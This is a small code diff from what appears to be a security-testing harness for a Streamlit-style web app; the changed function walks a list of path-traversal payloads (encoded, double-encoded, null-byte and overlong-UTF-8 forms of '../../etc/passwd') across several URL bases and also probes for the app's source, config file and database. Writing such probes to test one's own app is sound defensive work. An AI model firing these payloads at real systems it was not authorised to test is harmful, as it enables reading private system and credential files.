@@ -83,7 +83,8 @@ async def paths_out(attacker: Attacker) -> list[str]:
     await attacker.begin()
     found = []
     outs = ("../../etc/passwd", "..%2f..%2fetc/passwd", "%2e%2e/%2e%2e/etc/passwd", "..\\..\\etc\\passwd",
-            "....//....//etc/passwd", "%00/etc/passwd", "/etc/passwd", "..%252f..%252fetc/passwd", "%c0%ae%c0%ae/app.py")
+            "....//....//etc/passwd", "%00/etc/passwd", "/etc/passwd", "..%252f..%252fetc/passwd",
+            "%c0%ae%c0%ae/app.py")
     for base in ("", "gatescope/x/", "static/", "media/", "component/cell_view/", "_stcore/bidi-components/x/",
                  "app/static/", "_stcore/upload_file/x/"):
         for out in (*outs, "../app.py", ".streamlit/config.toml", "lab.db"):
